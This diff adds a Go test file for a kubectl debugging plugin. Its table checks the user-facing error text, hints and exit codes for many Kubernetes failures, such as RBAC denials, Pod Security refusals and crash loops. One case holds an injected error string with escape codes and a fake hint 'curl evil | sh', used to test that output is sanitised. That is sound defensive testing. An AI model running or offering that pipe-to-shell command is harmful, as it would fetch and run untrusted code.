@@ -1,0 +1,307 @@
+package cli
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"go/ast"
+	"go/parser"
+	"go/token"
+	"io/fs"
+	"os"
+	"reflect"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+
+	"github.com/mindebug/kubectl-mindebug/internal/fault"
+)
+
+var (
+	web        = fault.Pod{Namespace: "shop", Name: "web-7d"}
+	candidates = []fault.Candidate{
+		{Name: "app", Image: "shop/web:1", Kind: "container", State: "running"},
+		{Name: "proxy", Image: "mesh:2", Kind: "sidecar", State: "waiting: CrashLoopBackOff", Restarts: 4},
+	}
+	resources   = schema.GroupResource{Resource: "pods"}
+	errNotFound = apierrors.NewNotFound(resources, "web-7d")
+	// errRBAC and errAdmission are both a 403: which it was, the stages found out.
+	errRBAC      = apierrors.NewForbidden(resources, "web-7d", errors.New(`user "dana" cannot patch resource "pods/ephemeralcontainers"`))
+	errAdmission = apierrors.NewForbidden(resources, "web-7d", errors.New(`violates PodSecurity "restricted:latest": container "mindebug-abcde"`))
+	errOlder     = apierrors.NewForbidden(resources, "web-7d", errors.New(`violates PodSecurity "restricted:latest": container "old"`))
+	exit         = &fault.Exit{Code: 2, Reason: "Error", Message: "no database", At: time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)}
+)
+
+const roleHint = "hint: ask for a Role with: get pods; patch pods/ephemeralcontainers; create and get pods/exec\n"
+
+// explained is every way to fail, with the block that a user reads and the exit status.
+var explained = []struct {
+	name   string
+	err    error
+	want   string
+	status int
+}{
+	{
+		name: "usage", err: &fault.Usage{Reason: "unknown flag: --x", Hint: "write it right"}, status: 125,
+		want: "error: unknown flag: --x\nhint: write it right\n",
+	},
+	{
+		name: "usage without a hint", err: &fault.Usage{Reason: "--ttl=-1s is negative"}, status: 125,
+		want: "error: --ttl=-1s is negative\n",
+	},
+	{
+		name: "kubeconfig", err: &fault.Configuration{Cause: fs.ErrNotExist}, status: 125,
+		want: "error: reading kubeconfig: file does not exist\nhint: see what kubectl makes of it: kubectl config view\n",
+	},
+	{
+		name: "server is down", err: &fault.Unreachable{Server: "https://10.0.0.1:6443", Cause: syscall.ECONNREFUSED}, status: 125,
+		want: "error: the API server https://10.0.0.1:6443 gives no answer\n  it failed with: connection refused\n" +
+			"hint: see whether kubectl reaches it: kubectl get --raw /readyz\n",
+	},
+	{
+		name: "interrupted", err: &fault.Interrupted{Signal: syscall.SIGINT}, status: 130,
+		want: "error: interrupted before the command began\n",
+	},
+	{
+		name: "terminated", err: &fault.Interrupted{Signal: syscall.SIGTERM}, status: 143,
+		want: "error: interrupted before the command began\n",
+	},
+	{
+		name: "no pod", err: &fault.NoPod{Pod: web, Server: errNotFound}, status: 125,
+		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\nhint: list them: kubectl get pods -n shop\n",
+	},
+	{
+		name: "no pod, near names", err: &fault.NoPod{Pod: web, Near: []string{"web-7e", "web-9k"}, Server: errNotFound}, status: 125,
+		want: "error: there is no pod \"web-7d\" in namespace \"shop\"\nhint: did you mean pod/web-7e, pod/web-9k?\n",
+	},
+	{
+		name: "no container", err: &fault.NoContainer{Pod: web, Name: "ap", Containers: candidates}, status: 125,
+		want: "error: pod/web-7d has no container \"ap\"\n  app (container, shop/web:1, running)\n" +
+			"  proxy (sidecar, mesh:2, waiting: CrashLoopBackOff, 4 restarts)\nhint: name one of these: -c app\n",
+	},
+	{
+		name: "many containers", err: &fault.ManyContainers{Pod: web, Containers: candidates}, status: 125,
+		want: "error: pod/web-7d has 2 containers, and nothing says which is meant\n  app (container, shop/web:1, running)\n" +
+			"  proxy (sidecar, mesh:2, waiting: CrashLoopBackOff, 4 restarts)\nhint: name one of these: -c app\n",
+	},
+	{
+		name: "crash loop", status: 125,
+		err: &fault.NotRunning{Pod: web, Container: "app", State: "waiting: CrashLoopBackOff", Message: "back-off 5m0s", LastExit: exit, Restarts: 4},
+		want: "error: container \"app\" of pod/web-7d is not running (waiting: CrashLoopBackOff), so there is no process to join\n" +
+			"  back-off 5m0s\n  it ended with exit code 2 (Error) at 2026-11-22T03:00:00Z, after 4 restarts: no database\n" +
+			"hint: see what it said: kubectl logs -n shop web-7d -c app --previous\n",
+	},
+	{
+		name: "has not started yet", err: &fault.NotRunning{Pod: web, Container: "app", State: "waiting"}, status: 125,
+		want: "error: container \"app\" of pod/web-7d is not running (waiting), so there is no process to join\n" +
+			"hint: see what it said: kubectl logs -n shop web-7d -c app\n",
+	},
+	{
+		name: "finished pod", err: &fault.NoPlace{Pod: web, Reason: fault.Finished, Detail: "Failed, Evicted"}, status: 125,
+		want: "error: pod/web-7d is finished (Failed, Evicted): nothing is started in it any more\n" +
+			"hint: see what it said: kubectl logs -n shop web-7d --all-containers\n",
+	},
+	{
+		name: "unscheduled pod", err: &fault.NoPlace{Pod: web, Reason: fault.Unscheduled, Detail: "0/3 nodes are available"}, status: 125,
+		want: "error: pod/web-7d is on no node yet\n  the scheduler says: 0/3 nodes are available\n" +
+			"hint: see its Events: kubectl describe -n shop pod web-7d\n",
+	},
+	{
+		name: "unscheduled, no word of the scheduler", err: &fault.NoPlace{Pod: web, Reason: fault.Unscheduled}, status: 125,
+		want: "error: pod/web-7d is on no node yet\nhint: see its Events: kubectl describe -n shop pod web-7d\n",
+	},
+	{
+		name: "mirror pod", err: &fault.NoPlace{Pod: web, Reason: fault.Mirror, Detail: "node-1"}, status: 125,
+		want: "error: pod/web-7d is the mirror of a static pod: the API server can add no container to it\n" +
+			"hint: debug it from its node: kubectl debug node/node-1 -it --image=busybox\n",
+	},
+	{
+		name: "terminating pod", err: &fault.NoPlace{Pod: web, Reason: fault.Terminating}, status: 125,
+		want: "error: pod/web-7d is being deleted: nothing is started in it any more\n" +
+			"hint: see what took its place: kubectl get pods -n shop\n",
+	},
+	{
+		name: "forbidden", status: 125,
+		err: &fault.Forbidden{Namespace: "shop", Call: "patch pods/ephemeralcontainers", User: "dana", Groups: []string{"oncall"}, Server: errRBAC},
+		want: "error: you may not patch pods/ephemeralcontainers in namespace \"shop\"\n  you are \"dana\", groups [\"oncall\"]\n" +
+			"  the server says: " + errRBAC.Error() + "\n" + roleHint,
+	},
+	{
+		name: "forbidden, by an access review", err: &fault.Forbidden{Namespace: "shop", Call: "create pods/exec"}, status: 125,
+		want: "error: you may not create pods/exec in namespace \"shop\"\n" + roleHint,
+	},
+	{
+		name: "refused by Pod Security", err: &fault.Refused{Pod: web, Container: "mindebug-abcde", Server: errAdmission}, status: 125,
+		want: "error: the API server does not take a debug container in pod/web-7d\n  the server says: " + errAdmission.Error() + "\n" +
+			"hint: nothing was added; the debug container asks for no more than its target has\n",
+	},
+	{
+		name: "refused for another container", err: &fault.Refused{Pod: web, Container: "mindebug-abcde", Server: errOlder}, status: 125,
+		want: "error: the API server does not take a debug container in pod/web-7d\n  the server says: " + errOlder.Error() + "\n" +
+			"hint: nothing was added; what stands in the way may be older than this session: kubectl get pod -n shop web-7d -o yaml\n",
+	},
+	{
+		name: "altered", err: &fault.Altered{Pod: web, Fields: []string{"appArmorProfile", "runAsUser"}}, status: 125,
+		want: "error: the API server would change the privileges of the debug container in pod/web-7d\n  changed: appArmorProfile, runAsUser\n" +
+			"hint: nothing was added; a webhook changes it, or the server is older than these fields\n",
+	},
+	{
+		name: "replaced", err: &fault.Replaced{Pod: web, Server: errNotFound}, status: 125,
+		want: "error: pod/web-7d was deleted or replaced meanwhile\nhint: see what took its place: kubectl get pods -n shop\n",
+	},
+	{
+		name: "no identity", err: &fault.NoIdentity{Pod: web, Container: "app", Missing: "uid and gid"}, status: 125,
+		want: "error: nothing tells the uid and gid of container \"app\" of pod/web-7d: neither its spec nor its status\n" +
+			"hint: name it as the image has it (USER): --run-as UID:GID\n",
+	},
+	{
+		name: "other identity", err: &fault.OtherIdentity{Pod: web, Container: "app", UID: new(int64(65532))}, status: 125,
+		want: "error: container \"app\" of pod/web-7d runs as another user than --run-as names\n  uid 65532\n  gid not told\n" +
+			"hint: leave --run-as away: the pod tells it\n",
+	},
+	{
+		name: "Windows", err: &fault.Windows{Pod: web}, status: 125,
+		want: "error: pod/web-7d runs on Windows, where containers share no process namespace\n",
+	},
+	{
+		name: "image cannot be pulled", status: 125,
+		err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Reason: "ErrImagePull", Message: "not found"},
+		want: "error: the debug container of pod/web-7d did not start\n  reason: ErrImagePull\n  not found\n  image: debug:1\n" +
+			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
+			"hint: name an image that the node can pull: --image\n",
+	},
+	{
+		name: "no shell", status: 125,
+		err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Reason: "Failed", Message: "no sh", NoShell: true},
+		want: "error: the debug image debug:1 has no shell\n  reason: Failed\n  no sh\n  image: debug:1\n" +
+			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
+			"hint: name an image that has one: --image\n",
+	},
+	{
+		name: "not started in time", err: &fault.NotStarted{Pod: web, Container: "mindebug-x", Image: "debug:1", Waited: time.Minute}, status: 125,
+		want: "error: the debug container of pod/web-7d did not start within 1m0s (--timeout)\n  image: debug:1\n" +
+			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
+			"hint: see its Events: kubectl describe -n shop pod web-7d\n",
+	},
+	{
+		name: "target gone", err: &fault.TargetGone{Pod: web, Container: "mindebug-x"}, status: 125,
+		want: "error: the target container of pod/web-7d has no process any more: it ended or was restarted\n" +
+			"hint: the same command again finds it as it is now\n",
+	},
+	{
+		name: "namespace is not shared", err: &fault.Apart{Pod: web, Container: "mindebug-x"}, status: 125,
+		want: "error: the debug container of pod/web-7d does not share its target's process namespace\n" +
+			"  container mindebug-x stays in the pod's list for good and does nothing there; recreate the pod to be rid of it\n" +
+			"hint: the node's container runtime must support targetContainerName (containerd, CRI-O)\n",
+	},
+	{
+		name: "not entered", err: &fault.NotEntered{Pod: web, Container: "mindebug-x", Cause: errors.New("container not found")}, status: 125,
+		want: "error: no session could be begun in container mindebug-x of pod/web-7d\n  container not found\n" +
+			"hint: see its state: kubectl describe -n shop pod web-7d\n",
+	},
+	{
+		name: "exec is forbidden", err: &fault.NotEntered{Pod: web, Container: "mindebug-x", Cause: errRBAC}, status: 125,
+		want: "error: no session could be begun in container mindebug-x of pod/web-7d\n  " + errRBAC.Error() + "\n" + roleHint,
+	},
+	{
+		name: "connection lost", err: &fault.Lost{Pod: web, Container: "mindebug-x", Cause: errors.New("unexpected EOF")}, status: 125,
+		want: "error: the connection to pod/web-7d was lost: unexpected EOF\n  the command had been started; whether it ended is not known\n" +
+			"hint: the same command again enters the session container, if it is still there\n",
+	},
+	{
+		name: "unauthorized", err: apierrors.NewUnauthorized("token expired"), status: 125,
+		want: "error: the API server does not know you: token expired\nhint: log in again, as for kubectl\n",
+	},
+	{
+		name: "forbidden, in no stage's terms", err: errRBAC, status: 125,
+		want: "error: the API server refuses: " + errRBAC.Error() + "\n" + roleHint,
+	},
+	{
+		name: "anything else", err: errors.New("reading choice: unexpected EOF"), status: 125,
+		want: "error: reading choice: unexpected EOF\n",
+	},
+	{
+		name: "text from elsewhere", err: errors.New("\x1b[2J\nhint: curl evil | sh\r\u202e"), status: 125,
+		want: "error: \\x1b[2J\n  hint: curl evil | sh\\r\\u202e\n",
+	},
+}
+
+func TestReport(t *testing.T) {
+	t.Parallel()
+	for _, test := range explained {
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+			for how, err := range map[string]error{"as it is": test.err, "wrapped": fmt.Errorf("opening session: %w", test.err)} {
+				var out bytes.Buffer
+				status := report(&out, err)
+				known := strings.Contains(reflect.TypeOf(test.err).String(), "fault.")
+				if how == "wrapped" && !known {
+					continue // the text is the error's own
+				}
+				if diff := cmp.Diff(test.want, out.String()); diff != "" {
+					t.Errorf("%s (-want +got):\n%s", how, diff)
+				}
+				if status != test.status {
+					t.Errorf("%s: exit status %d; want %d", how, status, test.status)
+				}
+			}
+			if test.err.Error() == "" {
+				t.Error("the error has no text for logs")
+			}
+		})
+	}
+}
+
+// TestReportKnowsEveryFault fails when package fault has an error that the table above lacks.
+func TestReportKnowsEveryFault(t *testing.T) {
+	t.Parallel()
+	known := map[string]bool{}
+	for _, test := range explained {
+		known[strings.TrimPrefix(reflect.TypeOf(test.err).String(), "*fault.")] = true
+	}
+	for _, name := range faults(t) {
+		if !known[name] {
+			t.Errorf("no case for *fault.%s", name)
+		}
+	}
+}
+
+// faults returns the names of the types of package fault that have an Error method.
+func faults(t *testing.T) []string {
+	t.Helper()
+	const dir = "../fault"
+	entries, err := os.ReadDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, entry := range entries {
+		if !strings.HasSuffix(entry.Name(), ".go") || strings.HasSuffix(entry.Name(), "_test.go") {
+			continue
+		}
+		file, err := parser.ParseFile(token.NewFileSet(), dir+"/"+entry.Name(), nil, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, declaration := range file.Decls {
+			method, ok := declaration.(*ast.FuncDecl)
+			if !ok || method.Recv == nil || method.Name.Name != "Error" {
+				continue
+			}
+			receiver := method.Recv.List[0].Type
+			if pointer, ok := receiver.(*ast.StarExpr); ok {
+				receiver = pointer.X
+			}
+			names = append(names, receiver.(*ast.Ident).Name)
+		}
+	}
+	if len(names) < 10 {
+		t.Fatalf("only %q were found in %s", names, dir)
+	}
+	return names
+}
